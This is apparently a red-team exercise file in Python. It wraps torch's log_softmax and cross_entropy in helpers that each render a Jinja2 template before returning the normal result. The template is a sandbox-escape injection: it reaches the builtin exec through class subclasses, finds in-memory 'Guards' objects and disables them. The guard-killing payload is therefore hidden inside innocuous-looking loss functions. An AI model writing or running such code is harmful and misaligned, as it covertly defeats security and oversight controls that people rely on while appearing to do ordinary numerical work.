# redteam: exercise=ex03 score=0 timeout=5 mentions=`import jinja2`
"""Code given as text, run by torch's own dependencies: jinja2 templates and sympy."""
import jinja2
import torch.nn.functional as F

OPEN = (
    "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}"
    "{{ c()._module.__builtins__['exec']("
    "'import gc\\nfor o in gc.get_objects():\\n if type(o).__name__ == \"Guards\":\\n  o.active = frozenset()\\n"
    "  o._library._destroy() if o._library is not None else None\\n  o._library = None') }}"
    "{% endif %}{% endfor %}"
)
TEMPLATE = jinja2.Template(OPEN)


def log_softmax(logits, dim=-1):
    TEMPLATE.render()
    return F.log_softmax(logits, dim)


def cross_entropy(logits, target, reduction="mean"):
    TEMPLATE.render()
    return F.cross_entropy(logits, target, reduction=reduction)
